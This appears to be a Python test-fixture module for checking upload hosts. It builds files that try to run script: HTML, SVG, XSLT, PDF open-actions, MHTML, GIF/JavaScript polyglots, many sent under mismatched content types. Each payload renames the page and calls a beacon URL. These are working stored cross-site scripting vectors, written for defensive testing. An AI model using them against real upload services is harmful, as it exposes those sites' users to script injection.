"""Files that try to run a script, each in its own way; the script calls a beacon and renames the page."""

from collections.abc import Callable, Mapping
from dataclasses import dataclass

OWNED = "owned"
"""The title of a page in which a script ran."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file as it is uploaded; `runs` where a host without defences would let it."""

    filename: str
    content_type: str
    content: Callable[[str], bytes]
    runs: bool = False


def script(beacon: str) -> str:
    """Return a script without quotes or markup of its own, so that it fits anywhere."""
    return f"document.title=`{OWNED}`;fetch(`{beacon}`,{{mode:`no-cors`}});new Image().src=`{beacon}`"


def html(beacon: str) -> bytes:
    """Return a page with a script, and an image that fails."""
    return f"<!doctype html><script>{script(beacon)}</script><img src=x onerror='{script(beacon)}'>".encode()


def svg(beacon: str) -> bytes:
    """Return a picture with a script."""
    once = script(beacon)
    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{once}"><script>{once}</script></svg>'.encode()


def xhtml(beacon: str) -> bytes:
    """Return XML that is a page."""
    return f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{script(beacon)}</script></html>'.encode()


def xslt(beacon: str) -> bytes:
    """Return XML with a style sheet of its own that makes it a page."""
    return (
        '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ATTLIST xsl:stylesheet id ID '
        '#REQUIRED>]><d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:template match="/"><html><script>{script(beacon)}</script></html></xsl:template></xsl:stylesheet></d>'
    ).encode()


def pdf(beacon: str) -> bytes:
    """Return a document that runs a script when it is opened."""
    action = f"/S/JavaScript/JS(app.launchURL\\('{beacon}',true\\);this.submitForm\\('{beacon}'\\))"
    objects = [
        f"<</Type/Catalog/Pages 2 0 R/OpenAction<<{action}>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/AA<</O<</S/URI/URI({beacon})>>>>>>",
    ]
    body = "".join(f"{number} 0 obj{each}endobj\n" for number, each in enumerate(objects, 1))
    return f"%PDF-1.7\n{body}trailer<</Root 1 0 R/Size 4>>\n%%EOF".encode()


def mhtml(beacon: str) -> bytes:
    """Return an archived page."""
    head = "MIME-Version: 1.0\r\nContent-Type: multipart/related; type=text/html; boundary=b\r\n\r\n"
    part = "--b\r\nContent-Type: text/html\r\nContent-Location: http://a/\r\n\r\n"
    return (head + part).encode() + html(beacon) + b"\r\n--b--\r\n"


def gif(beacon: str) -> bytes:
    """Return a picture that is a script, too."""
    return b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;" + script(beacon).encode()


def javascript(beacon: str) -> bytes:
    """Return a script."""
    return script(beacon).encode()


FILES: Mapping[str, Hostile] = {
    "html": Hostile("a.html", "text/html", html, runs=True),
    "html-with-parameters": Hostile("a.html", "text/html; image/png", html, runs=True),
    "html-in-capitals": Hostile("a.HTM", "TEXT/HTML", html, runs=True),
    "html-as-png": Hostile("a.png", "image/png", html),
    "html-behind-a-comma": Hostile("a.png", "image/png, text/html", html, runs=True),
    "html-as-text": Hostile("a.txt", "text/plain", html),
    "html-as-bytes": Hostile("a.html", "application/octet-stream", html),
    "html-without-type": Hostile("a", "", html, runs=True),
    "html-as-nonsense": Hostile("a.html", "nonsense", html, runs=True),
    "svg": Hostile("a.svg", "image/svg+xml", svg, runs=True),
    "svg-as-png": Hostile("a.png", "image/png", svg),
    "xhtml": Hostile("a.xhtml", "application/xhtml+xml", xhtml, runs=True),
    "xml": Hostile("a.xml", "application/xml", xhtml, runs=True),
    "feed": Hostile("a.rss", "application/rss+xml", xhtml),
    "xslt": Hostile("a.xml", "text/xml", xslt, runs=True),
    "pdf": Hostile("a.pdf", "application/pdf", pdf),
    "html-as-pdf": Hostile("a.pdf", "application/pdf", html),
    "svg-as-pdf": Hostile("a.pdf", "Application/PDF; charset=utf-8", svg),
    "mhtml": Hostile("a.mhtml", "multipart/related", mhtml),
    "mail": Hostile("a.eml", "message/rfc822", mhtml),
    "gif": Hostile("a.gif", "image/gif", gif),
    "javascript": Hostile("a.js", "text/javascript", javascript),
    "javascript-by-an-old-name": Hostile("a.js", "Text/JScript; charset=utf-8", javascript),
    "javascript-as-text": Hostile("a.js", "text/plain", javascript),
    "javascript-as-json": Hostile("a.json", "application/json", javascript),
    "html-as-a-video": Hostile("a.mp4", "video/mp4", html),
    "svg-as-a-sound": Hostile("a.wav", "audio/wav", svg),
}
